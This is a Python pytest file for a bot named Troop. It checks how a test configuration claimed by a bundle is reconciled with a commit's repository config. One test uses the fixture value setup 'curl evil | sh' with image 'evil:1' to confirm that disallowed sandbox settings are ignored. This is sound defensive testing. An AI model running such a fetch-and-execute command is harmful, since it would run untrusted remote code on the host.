from bot.records import TestConfig
from bot.repo_config import RepoConfig
from bot.settings import Settings
from bot.solver.project import config_of_tests
from bot.solver.verification import claimed_config

HERE = RepoConfig(test_command=("pytest",), exclude=("docs/**",))


def settings(**others: object) -> Settings:
    return Settings(_env_file=None, **others)  # type: ignore[arg-type]


def test_a_count_is_made_again_with_the_tests_of_the_bundle_and_says_what_differs() -> None:
    """A run takes the default branch's config; the commit that it worked on may have another."""
    claimed = TestConfig(command=("make", "test"), timeout=60.0, scripts={".rb": ("ruby", "{script}")})
    config, notes = claimed_config(claimed, HERE, ("a note",), settings())
    assert (config_of_tests(config), config.exclude) == (claimed, ("docs/**",))
    assert notes == ("command, timeout, scripts: as in the bundle, not as in the .troop.toml of the commit",)
    assert claimed_config(config_of_tests(HERE), HERE, (), settings()) == (HERE, ())


def test_a_bundle_that_does_not_say_it_is_counted_with_the_commits_config() -> None:
    config, (first, said) = claimed_config(None, HERE, ("a note",), settings())
    assert (config, first) == (HERE, "a note")
    assert "of an earlier Troop" in said


def test_a_bundle_sets_no_more_than_a_repository_may() -> None:
    claimed = TestConfig(command=("make", "test"), image="evil:1", setup="curl evil | sh")
    config, notes = claimed_config(claimed, HERE, (), settings(repository_may_set=("test", "context")))
    assert config_of_tests(config) == TestConfig(command=("make", "test"))
    assert [note.split(" is ignored")[0] for note in notes[:2]] == ["sandbox.setup", "sandbox.image evil:1"]
